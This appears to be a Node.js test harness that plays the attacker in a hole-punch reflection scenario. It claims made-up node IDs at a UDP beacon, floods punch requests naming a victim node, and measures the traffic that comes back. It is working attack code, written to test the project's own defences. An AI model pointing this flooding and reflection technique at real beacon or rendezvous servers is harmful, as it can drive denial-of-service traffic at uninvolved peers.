// The attacker of the punch-reflection scenario (issue 15, scenario 2), a process of the test's own
// making: it claims made-up node IDs at the beacon (a discover each, from its own sockets) and sends
// punch requests naming the victim, so that the beacon commands the victim to punch towards it.
// Usage: node punch-attacker.mjs <beacon host> <beacon port> <victim node> <requests/s> <ms> <requesters>
// Prints one JSON line when done: what it sent (UDP payload and wire bytes) and what came back.
import { createSocket } from 'node:dgram';

const [host, portText, victimText, rateText, msText, requestersText] = process.argv.slice(2);
const beaconPort = Number(portText);
const victim = Number(victimText);
const rate = Number(rateText);
const durationMs = Number(msText);
const requesters = Number(requestersText ?? 4);
/** IPv4 + UDP headers: what each datagram adds on the wire. */
const HEADERS = 28;

const sent = { packets: 0, payload: 0, wire: 0 };
const received = { packets: 0, payload: 0, wire: 0, fromBeacon: 0 };

function send(socket, bytes) {
  socket.send(bytes, beaconPort, host);
  sent.packets++;
  sent.payload += bytes.length;
  sent.wire += bytes.length + HEADERS;
}

const sockets = [];
for (let i = 0; i < requesters; i++) {
  const socket = createSocket('udp4');
  await new Promise((resolve) => socket.bind(0, resolve));
  socket.on('message', (message, from) => {
    if (from.address === host && from.port === beaconPort) {
      received.fromBeacon++;
      return;
    }
    received.packets++;
    received.payload += message.length;
    received.wire += message.length + HEADERS;
  });
  sockets.push({ socket, node: 0x7a000000 + i + Math.floor(Math.random() * 0x100000) * 16 });
}

// Claim each made-up node at the beacon (it records node → our source endpoint).
for (const { socket, node } of sockets) {
  const discover = Buffer.alloc(5);
  discover[0] = 0x01;
  discover.writeUInt32BE(node >>> 0, 1);
  send(socket, discover);
}
await new Promise((resolve) => setTimeout(resolve, 300));

const started = performance.now();
let n = 0;
await new Promise((resolve) => {
  const timer = setInterval(() => {
    const due = Math.floor(((performance.now() - started) / 1000) * rate);
    while (n < due) {
      const { socket, node } = sockets[n % sockets.length];
      const request = Buffer.alloc(9);
      request[0] = 0x03;
      request.writeUInt32BE(node >>> 0, 1);
      request.writeUInt32BE(victim >>> 0, 5);
      send(socket, request);
      n++;
    }
    if (performance.now() - started >= durationMs) {
      clearInterval(timer);
      resolve();
    }
  }, 20);
});
// What the victim still sends after the last request (a punch attempt lasts seconds).
await new Promise((resolve) => setTimeout(resolve, 8000));
process.stdout.write(`${JSON.stringify({ event: 'done', requests: n, sent, received })}\n`);
for (const { socket } of sockets) socket.close();
